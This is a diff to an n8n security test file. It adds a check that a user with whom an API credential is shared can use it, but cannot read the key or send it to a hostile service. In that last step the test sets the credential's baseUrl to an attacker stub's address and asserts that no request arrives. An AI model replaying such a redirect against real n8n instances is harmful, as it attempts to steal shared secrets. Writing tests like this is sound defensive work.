@@ -1,9 +1,13 @@
 import { readFileSync } from 'node:fs';
+import { dirname, join } from 'node:path';
+import { DatabaseSync } from 'node:sqlite';
 import { afterAll, beforeAll, beforeEach, describe, expect, it } from '@jest/globals';
-import { nodeRun } from '../../tools/n8n/execution';
+import { N8nClient } from '../../tools/n8n/client';
+import { items, nodeRun } from '../../tools/n8n/execution';
+import { chain, workflowNode } from '../support/n8n/chain';
 import { HostileService } from '../support/node/hostileService';
 import { httpRequest, send, SENDER, type TypedCredential } from '../support/n8n/httpRequestNode';
-import { N8nStack } from '../support/n8n/n8nStack';
+import { N8nStack, NODE, NODE_TYPE } from '../support/n8n/n8nStack';
 
 const WORKSPACE = 'business';
 /** Of the HTTP Request node; version 1 takes no credentials of other nodes. */
@@ -165,3 +169,49 @@ it.each([
 		expect(readFileSync(stack.n8n.logFile, 'utf8')).not.toContain(secret);
 	},
 );
+
+/** Signs in as another user, for whom the API key is shared for use only, as the Enterprise edition of n8n does it. */
+async function signInAsSharee(): Promise<N8nClient> {
+	const { client, logFile } = stack.n8n;
+	const email = 'sharee@example.com';
+	const password = 'Password123';
+	const [{ user }] = await client.request<Array<{ user: { id: string; inviteAcceptUrl: string } }>>(
+		'POST',
+		'/rest/invitations',
+		[{ email, role: 'global:member' }],
+	);
+	const sharee = new N8nClient(client.baseUrl);
+	await sharee.request('POST', '/rest/invitations/accept', {
+		token: new URL(user.inviteAcceptUrl).searchParams.get('token'),
+		...{ firstName: 'Sharee', lastName: 'Sharee', password },
+	});
+	const database = new DatabaseSync(join(dirname(logFile), '.n8n', 'database.sqlite'));
+	database.exec('PRAGMA busy_timeout = 5000');
+	database
+		.prepare(
+			`INSERT INTO shared_credentials (credentialsId, projectId, role)
+			 SELECT ?, projectId, 'credential:user' FROM project_relation WHERE userId = ?`,
+		)
+		.run(apiKey.credential.id, user.id);
+	database.close();
+	return sharee;
+}
+
+it('a user with whom the credential is shared can use it, and neither read the key nor send it elsewhere', async () => {
+	const sharee = await signInAsSharee();
+	const { id, name } = apiKey.credential;
+	const node = workflowNode(NODE, NODE_TYPE, 1, { resource: 'tag', operation: 'getAll' });
+	const workflow = await sharee.createWorkflow({
+		name: 'Shared',
+		...chain([{ ...node, credentials: { linkAttributionApi: apiKey.credential } }]),
+	});
+	const execution = await sharee.runAndWait(workflow.id, { trigger: 'Start' });
+	expect(items(execution, NODE).length).toBeGreaterThan(0);
+
+	expect((await sharee.fetch('GET', `/rest/credentials/${id}?includeData=true`)).status).toBe(404);
+	const data = { apiKey: '__n8n_BLANK_VALUE_', baseUrl: attacker.url };
+	await sharee.fetch('POST', '/rest/credentials/test', {
+		credentials: { id, name, type: 'linkAttributionApi', data },
+	});
+	expect(attacker.requests).toEqual([]);
+});
